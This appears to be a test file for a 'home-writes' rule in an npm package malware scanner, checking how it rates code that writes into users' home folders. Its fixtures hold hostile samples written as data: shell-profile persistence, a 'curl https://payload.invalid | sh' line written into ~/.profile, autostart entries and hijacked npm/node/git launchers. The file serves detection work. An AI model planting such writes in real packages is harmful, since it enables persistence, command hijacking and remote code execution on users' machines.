import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';
import { findingsOf } from '../test/helpers/rule-tester.js';
import homeWrites from './home-writes.js';

const RULE = 'home-writes';

describe('home-writes reports', () => {
  test('appending to ~/.bashrc from a postinstall file is high, install-time, and not clean', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node p.js' } }),
      'p.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nexport PATH=$HOME/.cache/x:$PATH\\n');",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['sink:file-write-home'], { reach: 'install', message: expect.stringContaining('~/.bashrc') })]);
    // The persistence rule judges a shell profile changed at install: malicious.
    expect(r.verdict).toBe('malicious');
  });

  test('protestware dropping a note on the Desktop is medium and suspicious', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nfs.writeFileSync(`${os.homedir()}/Desktop/READ_ME.txt`, 'peace');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/Desktop/READ_ME.txt') })]);
    expect(r.verdict).toBe('suspicious');
  });

  test.each([
    ['a macOS LaunchAgent', "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst dir = path.join(os.homedir(), 'Library', 'LaunchAgents');\nfs.writeFileSync(path.join(dir, 'com.example.agent.plist'), '<plist/>');", '~/Library/LaunchAgents'],
    ['~/.npmrc via ESM named imports', "import { writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nwriteFileSync(`${homedir()}/.npmrc`, '//registry.invalid/:_authToken=x');", '~/.npmrc'],
    ['an XDG autostart entry via fs/promises', "const fsp = require('fs/promises'); const os = require('os');\nfsp.writeFile(os.homedir() + '/.config/autostart/agent.desktop', '[Desktop Entry]');", '~/.config/autostart'],
  ])('writing %s is a high startup/credential file write', (_label, code, where) => {
    const file = code.startsWith('import') ? 'index.mjs' : 'index.js';
    const r = scanFiles({ 'package.json': manifest({ main: file }), [file]: code });
    expect(r.of(RULE)).toEqual([finding('high', ['sink:file-write-home'], { message: expect.stringContaining(where) })]);
    expect(r.verdict).not.toBe('clean');
  });

  test("a tool's own cache folder, or a write inside a command's function, is low and weighs nothing", () => {
    const cache = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.cache', 'my-tool', 'latest.json'), '{}');" });
    expect(cache.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining("cache or data folder") })]);
    expect(cache.verdict).toBe('clean');
    const command = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.bisect = (text) => fs.writeFileSync(path.join(os.homedir(), 'bisect.py'), text);" });
    expect(command.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('in a function something calls') })]);
    expect(command.verdict).toBe('clean');
  });

  test('a write in a helper that load-time code calls by name still runs on load', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nfunction deliver(p, m) { fs.writeFile(p, m, () => {}); }\nconst desk = `${os.homedir()}/Desktop/`;\nif (!fs.existsSync(desk + 'NOTE.txt')) deliver(desk + 'NOTE.txt', 'hi');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/Desktop/NOTE.txt') })]);
  });

  test('a Desktop note written at install is medium, install reach', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node p.js' } }),
      'p.js': "const fs = require('fs'); const os = require('os');\nfs.writeFileSync(os.homedir() + '/Desktop/NOTE.txt', 'hi');",
    });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { reach: 'install' })]);
  });

  test('copyFileSync checks the destination, not the source', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.copyFileSync(path.join(__dirname, 'x.sh'), path.join(os.homedir(), '.local', 'bin', 'x'));" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/.local/bin/x') })]);
  });

  test('process.env.HOME + "/.profile" is a home write', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync(process.env.HOME + '/.profile', 'curl https://payload.invalid | sh');" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
  });

  test('a home path kept in a constant object is folded', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nconst T = { rc: os.homedir() + '/.bashrc' };\nfs.appendFileSync(T.rc, 'node ~/.x.js &');" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
  });
});

describe('home-writes stays quiet', () => {
  test.each([
    ['a caller-given folder', "const fs = require('fs'); const path = require('path');\nmodule.exports = (dir, data) => fs.writeFileSync(path.join(dir, 'cache.json'), JSON.stringify(data));"],
    ['the temp folder', "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = (d) => fs.writeFileSync(path.join(os.tmpdir(), 'x.json'), d);"],
    ['the project folder', "const fs = require('fs'); const path = require('path');\nmodule.exports = () => fs.writeFileSync(path.join(process.cwd(), '.eslintrc.json'), '{}');"],
    ['the package folder', "const fs = require('fs');\nfs.writeFileSync(__dirname + '/build/config.json', '{}');"],
    ['nowhere (reading the home folder)', "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.mytoolrc'), 'utf8');"],
  ])('writing into %s', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});

// A postinstall that adjusts the launcher npm writes into its global bin folder for a command, with
// the command's name read from the package's own manifest (the shape of ngrok's Git Bash fix). The
// package names its own bin: npm wrote that launcher for it. Any other command's launcher (npm,
// node, git, another package's tool) is a hijack of that command.
const LAUNCHER_FIX = (nameExpr: string, extra = '') =>
  "const fs = require('fs');\nconst path = require('path');\n" +
  extra +
  `const launcher = path.join(process.env.APPDATA, 'npm', ${nameExpr} + '.cmd');\n` +
  "if (fs.existsSync(launcher)) {\n  const text = fs.readFileSync(launcher, 'utf8');\n  fs.writeFileSync(launcher, text.replace('node ', 'node --no-deprecation '));\n}\n";

const tunnelPackage = (postinstall: string, fields: Record<string, unknown> = {}) => ({
  'package.json': JSON.stringify({ name: 'tunnel-cli', version: '2.0.0', bin: { 'tunnel-cli': 'bin/cli.js' }, scripts: { postinstall: 'node postinstall.js' }, ...fields }),
  'bin/cli.js': '#!/usr/bin/env node\nconsole.log("tunnel");\n',
  'postinstall.js': postinstall,
});

describe('npm launchers in the global bin folder (rule alone)', () => {
  test.each([
    ['its name from require("./package.json").name', LAUNCHER_FIX('require("./package.json").name'), {}],
    ['its name destructured from the manifest', LAUNCHER_FIX('name', "const { name } = require('./package.json');\n"), {}],
    ['a string bin, named after the unscoped package', LAUNCHER_FIX('require("./package.json").name.split("/")[1]'), { name: '@acme/tunnel-cli', bin: 'bin/cli.js' }],
    ['the first key of the manifest bin', LAUNCHER_FIX('Object.keys(require("./package.json").bin)[0]'), {}],
  ])('rewriting the launcher of its own bin, %s, is only noted', (_label, code, fields) => {
    const found = findingsOf(homeWrites, tunnelPackage(code, fields));
    expect(found.map((f) => `${f.severity} ${f.message}`)).toEqual([expect.stringMatching(/^info rewrites the npm launcher of its own command tunnel-cli \(~\/AppData\/Roaming\/npm\/tunnel-cli\.cmd\)/)]);
  });

  test('the clean reproduction scores clean', () => {
    const r = scanFiles(tunnelPackage(LAUNCHER_FIX('require("./package.json").name')));
    expect(r.of(RULE).filter((f) => f.severity !== 'info')).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test.each([
    ["npm's own launcher", LAUNCHER_FIX("'npm'"), {}, 'npm'],
    ["node's launcher", LAUNCHER_FIX("'node'"), {}, 'node'],
    ["another package's command", LAUNCHER_FIX("'prettier'"), {}, 'prettier'],
    ['a command named by another manifest field', LAUNCHER_FIX('require("./package.json").config.target'), { config: { target: 'claude' } }, 'claude'],
    ['a well-known command the package claims as its own bin', LAUNCHER_FIX('require("./package.json").name'), { name: 'git', bin: { git: 'bin/cli.js' } }, 'git'],
  ])('rewriting %s at install is critical command hijacking', (_label, code, fields, command) => {
    const found = findingsOf(homeWrites, tunnelPackage(code, fields));
    expect(found).toEqual([finding('critical', ['sink:file-write-home', 'tamper'], { reach: 'install', message: expect.stringContaining(`npm launcher of the ${command} command`) })]);
  });

  test('the malicious twin (the npm launcher replaced at install) is malicious', () => {
    const r = scanFiles(tunnelPackage(LAUNCHER_FIX("'npm'")));
    expect(r.verdict).toBe('malicious');
  });

  test("a Unix prefix's bin folder in the home folder is judged the same way", () => {
    const code = (name: string) => `const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.npm-global', 'bin', ${name}), '#!/bin/sh\\nexec node "$@"\\n');\n`;
    expect(findingsOf(homeWrites, tunnelPackage(code('require("./package.json").name'))).map((f) => f.severity)).toEqual(['info']);
    expect(findingsOf(homeWrites, tunnelPackage(code("'node'")))).toEqual([finding('critical', ['tamper'], { message: expect.stringContaining('~/.npm-global/bin/node') })]);
  });

  test('a launcher written by a function the user calls, not at install or on load, is medium without the tamper signal', () => {
    const code = "const fs = require('fs'); const path = require('path');\nexports.fix = () => fs.writeFileSync(path.join(process.env.APPDATA, 'npm', 'git.cmd'), '@node x.js');\n";
    const found = findingsOf(homeWrites, { 'package.json': JSON.stringify({ name: 'tunnel-cli', version: '2.0.0', main: 'index.js' }), 'index.js': code });
    expect(found).toEqual([finding('medium', ['sink:file-write-home'])]);
    expect(found[0]!.signals).not.toContain('tamper');
  });

  test('a launcher whose name cannot be folded stays a medium home write, as before', () => {
    const found = findingsOf(homeWrites, tunnelPackage(LAUNCHER_FIX('process.argv[2]')));
    expect(found).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/AppData/Roaming/npm/*') })]);
  });
});
